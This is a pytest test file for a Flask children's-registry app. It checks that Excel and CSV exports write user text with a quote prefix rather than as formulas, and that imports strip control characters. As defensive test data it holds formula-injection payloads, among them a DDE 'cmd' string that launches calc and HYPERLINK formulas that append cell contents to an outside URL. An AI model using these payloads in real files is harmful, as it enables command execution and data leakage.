"""Text written to Excel is never a formula, and one bad character never breaks a file
(blueprints/core/spreadsheet.py; issue 8, items 1 and 7)."""
from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select, update

from blueprints.children.excel import Reach, read_survey
from blueprints.children.models import Child, FamilyMember, ImportBatch
from blueprints.children.services import FamilyInput
from blueprints.core import spreadsheet
from extensions import db
from tests.factories import create_child, create_user, create_village, valid_id_number
from tests.test_children_excel import good_row, sign_in, upload, uploads, workbook  # noqa: F401

HYPERLINK = '=HYPERLINK("http://example.org/?"&C2,"点我")'
DDE = "=cmd|' /C calc'!A0"
NAME_LINK = '=HYPERLINK("http://x.cn/?"&C2,"点我")'  # a name holds 40 characters

# (what someone typed, what the cell must show). Every one of them could start a formula.
DANGEROUS = [
    (HYPERLINK, HYPERLINK),
    (DDE, DDE),
    ("+1+1", "+1+1"),
    ("-1+1", "-1+1"),
    ("@SUM(A1:A2)", "@SUM(A1:A2)"),
    ("=", "="),
    ("  =1+1", "  =1+1"),
    ("\u3000=1+1", "\u3000=1+1"),  # after a full-width space
    ("＝1+1", "＝1+1"),
    ("＋1+1", "＋1+1"),
    ("－1+1", "－1+1"),
    ("＠SUM(A1)", "＠SUM(A1)"),
    ("\t=1+1", " =1+1"),  # a tab is a space in a cell (core/text.py)
    ("\r=1+1", "\n=1+1"),  # a carriage return a line break
    ("\r\n+1", "\n+1"),
    ("−1", "−1"),  # U+2212 MINUS SIGN
]
ID = valid_id_number(date(2015, 3, 2), 7)
HARMLESS = ["王小红", "13800001111", "0530-1234567", "A=1", "留守儿童、困境儿童（家庭贫困）", "#N/A", "—", "1+1"]


def written(values: list, write_only: bool) -> bytes:
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet("s") if write_only else wb.active
    for value in values:
        spreadsheet.append(ws, [value])
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def cells(data: bytes) -> list:
    """Every cell of every sheet, read back as openpyxl sees it (formulas not replaced by values)."""
    wb = load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def assert_no_formula(data: bytes) -> None:
    assert [c.coordinate for c in cells(data) if c.data_type == "f"] == []
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in package.read(name) and b"<f " not in package.read(name)


@pytest.mark.parametrize("write_only", [False, True])
def test_dangerous_text_is_written_as_quoted_text_and_reads_back_unchanged(write_only):
    data = written([typed for typed, _ in DANGEROUS] + HARMLESS, write_only)
    assert_no_formula(data)
    read = cells(data)
    assert [(c.value, c.data_type, c.quotePrefix) for c in read[:len(DANGEROUS)]] == [
        (shown, "s", True) for _, shown in DANGEROUS]
    # Harmless text is left alone: no quote, and "#N/A" is text, not Excel's error value.
    assert [(c.value, c.data_type, c.quotePrefix) for c in read[len(DANGEROUS):]] == [
        (text, "s", False) for text in HARMLESS]


@pytest.mark.parametrize("write_only", [False, True])
def test_numbers_and_dates_the_app_writes_stay_typed(write_only):
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet("s") if write_only else wb.active
    spreadsheet.append(ws, [-3, 2.5, date(2015, 3, 2), datetime(2024, 1, 2, 8, 30), True, None, "", "文字", 0, False])
    buffer = io.BytesIO()
    wb.save(buffer)
    row = cells(buffer.getvalue())
    assert [c.value for c in row] == [-3, 2.5, datetime(2015, 3, 2), datetime(2024, 1, 2, 8, 30), True, None, None, "文字",
                                      0, False]
    assert [c.data_type for c in row[:2]] == ["n", "n"] and row[2].is_date and row[3].is_date
    assert row[4].data_type == "b"
    assert [spreadsheet.cell(ws, v).value for v in (0, False, -3, date(2015, 3, 2))] == [0, False, -3, date(2015, 3, 2)]


@pytest.mark.parametrize("raw, shown", [
    ("张\x0b三", "张三"), ("张\x00三", "张三"), ("李\x1b四", "李四"), ("王\x08五\x7f", "王五"),
    ("赵\ufffe六", "赵六"), ("钱\u202e七", "钱七"), ("第一行\r\n第二行", "第一行\n第二行"),
])
def test_characters_a_file_cannot_hold_are_dropped(raw, shown):
    data = written([raw, "\x00"], write_only=True)
    assert [c.value for c in cells(data)] == [shown]  # nothing left: an empty cell


def test_csv_values_are_quoted_as_owasp_recommends():
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([spreadsheet.csv_value(typed) for typed, _ in DANGEROUS[:6]] + [
        spreadsheet.csv_value("王小红"), spreadsheet.csv_value(-3), spreadsheet.csv_value("张\x00三")])
    row = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert row == ["'" + shown for _, shown in DANGEROUS[:6]] + ["王小红", "-3", "张三"]


# --- the workbooks the app writes ------------------------------------------------------------


def export(client) -> bytes:
    with client.get("/children/export.xlsx") as response:
        assert response.status_code == 200
        return response.get_data()


def test_the_export_writes_names_and_family_as_text(client, auth, app):
    village = create_village("前王庄村")
    create_child(NAME_LINK, village=village, address=DDE, health=HYPERLINK,
                 family=[FamilyInput(relation="祖母", name="@SUM(A1)", phone="13800001111", is_guardian=True),
                         FamilyInput(relation="父亲", name="－1+1", works_away=True)])
    sign_in(auth, "civil_affairs")
    data = export(client)
    assert_no_formula(data)
    row = {c.value: c for c in cells(data)}
    for text in (NAME_LINK, HYPERLINK, DDE, "@SUM(A1)", "－1+1"):
        assert row[text].data_type == "s" and row[text].quotePrefix, text
    birth = [c for c in cells(data) if c.is_date]
    assert [c.value.date() for c in birth] == [date(2015, 3, 2)]  # dates stay dates


def test_a_control_character_already_stored_does_not_break_the_export(client, auth, app):
    village = create_village("前王庄村")
    child = create_child("张三", village=village, family=[FamilyInput(relation="母亲", name="李四")])
    # Stored before forms were cleaned (or by hand): PostgreSQL refuses NUL, so NUL only on SQLite.
    nul = "\x00" if db.engine.dialect.name == "sqlite" else ""
    db.session.execute(update(Child).where(Child.id == child.id).values(name=f"张\x0b三{nul}", address="东\x1b街"))
    db.session.execute(update(FamilyMember).where(FamilyMember.child_id == child.id).values(name="李\x08四"))
    db.session.commit()
    sign_in(auth, "civil_affairs")
    values = {c.value for c in cells(export(client))}
    assert {"张三", "东街", "李四"} <= values


def test_the_template_writes_village_and_school_names_as_text(client, auth, app):
    create_village(HYPERLINK)
    create_village("＝1+1村")
    sign_in(auth, "admin")
    with client.get("/children/import/template.xlsx") as response:
        assert response.status_code == 200
        data = response.get_data()
    assert_no_formula(data)
    choices = {c.value: c for c in cells(data)}
    assert choices[HYPERLINK].data_type == "s" and choices[HYPERLINK].quotePrefix
    assert choices["＝1+1村"].quotePrefix


# --- the import reads text as text -----------------------------------------------------------


@pytest.fixture
def town(app, uploads):
    return create_village("前王庄村")


def text_workbook(row: dict) -> bytes:
    """A survey of one row whose every cell is a plain text cell (no quote prefix), as another
    program writes it: openpyxl would make "=…" a formula."""
    wb = Workbook()
    ws = wb.active
    ws.title = "儿童名单"
    for column, (name, value) in enumerate(row.items(), start=1):
        ws.cell(row=1, column=column, value=name)
        cell = ws.cell(row=2, column=column, value=value)
        cell.data_type = "s"
    buffer = io.BytesIO()
    wb.save(buffer)
    assert_no_formula(buffer.getvalue())
    return buffer.getvalue()


def test_imported_formula_text_is_kept_as_text_and_exported_as_text(client, auth, town, uploads):
    sign_in(auth, "civil_affairs")
    response = upload(client, text_workbook(good_row(ID, 住址=DDE, 健康状况=HYPERLINK, 姓名="王\u202e小红")))
    assert response.status_code == 200, response.get_data(as_text=True)
    db.session.rollback()
    batch = db.session.scalar(select(ImportBatch))
    assert client.post(f"/children/import/{batch.id}/confirm").status_code == 303
    db.session.rollback()
    child = db.session.scalar(select(Child))
    assert (child.name, child.address, child.health) == ("王小红", DDE, HYPERLINK)  # cleaned, kept as typed
    data = export(client)
    assert_no_formula(data)
    row = {c.value: c for c in cells(data)}
    assert row[DDE].quotePrefix and row[HYPERLINK].quotePrefix and "王小红" in row
    assert not list(uploads.iterdir())  # imported: the upload is gone


def test_the_reader_never_runs_a_formula(app, town):
    wb = Workbook()
    ws = wb.active
    ws.title = "儿童名单"
    ws.append(["姓名*", "身份证号", "居住村*", "儿童类别*"])
    ws.append(['="王"&"小红"', ID, "前王庄村", "困境儿童（家庭贫困）"])  # a formula openpyxl saves without a value
    buffer = io.BytesIO()
    wb.save(buffer)
    report = read_survey(io.BytesIO(buffer.getvalue()), Reach.town()).report
    assert report.errors == [(2, "姓名", "请填写姓名")]  # neither evaluated nor read as the formula's text


def test_imported_text_cells_are_cleaned(app, town):
    # What XML lets a cell hold (NUL and \x0b it does not): bidi overrides, C1 controls, tabs, breaks.
    data = workbook([good_row(ID, 姓名="王\u202e小\x7f红", 住址="东\t街\r\n一号", 民族="汉\x9f族")])
    result = read_survey(io.BytesIO(data), Reach.town())
    assert result.report.ok, result.report.errors
    values = result.rows[0].values
    assert (values["name"], values["address"], values["ethnicity"]) == ("王小红", "东 街 一号", "汉族")


def test_wrong_role_cannot_export(client, auth, app):
    user = create_user("department")
    assert auth.login(user.username).status_code == 303
    assert client.get("/children/export.xlsx").status_code == 403
